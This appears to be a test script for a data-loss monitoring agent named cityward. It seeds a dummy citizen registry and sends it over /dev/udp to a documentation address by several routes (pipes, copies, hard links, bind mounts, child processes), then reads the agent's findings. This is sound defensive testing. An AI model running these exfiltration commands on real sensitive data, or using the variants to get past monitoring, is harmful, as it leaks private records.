# Runs in the machine of TestDebianMachine: installs the package, lets data leave in
# several ways, each to a port of its own, and prints what the agent says of it.
# Nobody answers beyond the city.
exec >/dev/ttyS0 2>&1
set -eu

file=/srv/registry/citizens
beyond=/dev/udp/203.0.113.7

page() {
	exec 3<>/dev/tcp/127.0.0.1/19777
	printf 'GET /metrics HTTP/1.0\r\n\r\n' >&3
	cat <&3
}

# A unit each: what is started from here would descend from one that has read.
way() {
	systemd-run --quiet --wait --unit="way-$1" bash -c "$2"
}

umask 077
mkdir /srv/registry
echo 'a line of the registry' >"$file"
cp /etc/hostname /var/tmp/other
umask 022
dpkg --install /root/cityward.deb
sed -i 's/^networks = \[\]$/networks = ["10.77.0.0\/16"]/; s/^timeout = "10s"$/timeout = "2m"/' /etc/cityward/cityward.toml
cat >>/etc/cityward/cityward.toml <<-END
	[[data_store]]
	id = "civil-registry"
	class = "citizen"
	paths = ["/srv/registry"]
END
systemctl restart cityward
until page | grep -q '^cityward_data_store_sent_bytes_total.*civil-registry'; do sleep 1; done
sleep 5

way 4001 "cat $file >$beyond/4001"
way 4002 "cat $file | cat >$beyond/4002"
way 4003 "cp $file /var/tmp/copy; systemd-run --quiet --wait bash -c 'cat /var/tmp/copy >$beyond/4003'"
way 4004 "cp $file /dev/shm/copy; cat /dev/shm/copy; systemd-run --quiet --wait bash -c 'read -r line </dev/shm/copy; echo \$line >$beyond/4004'"
way 4005 "read -r line <$file; cat /etc/hostname >$beyond/4005; true"
way 4006 "ln $file /srv/second; cat /srv/second >$beyond/4006"
way 4007 "mount --bind /srv/registry /mnt; cat /mnt/citizens >$beyond/4007; umount /mnt"
way 4101 "cat /etc/hostname >$beyond/4101"
way 4102 "ls /srv/registry >$beyond/4102"
way 4103 "cat /var/tmp/other | cat >$beyond/4103"
for how in direct pipeline derived descendant; do
	until page | grep -q "^cityward_data_store_sent_bytes_total{how=\"$how\",peer_zone=\"outside\".* [1-9]"; do sleep 1; done
done
round=$(page | sed -n 's/^cityward_rounds_total //p')
until [ "$(page | sed -n 's/^cityward_rounds_total //p')" -gt $((round + 1)) ]; do sleep 1; done

echo '== findings'
cityward findings --format=json
echo '== metrics'
page | grep -E '^cityward_(capture|build|gaps|events)'
echo '== doctor'
cityward doctor || true
echo '== end'
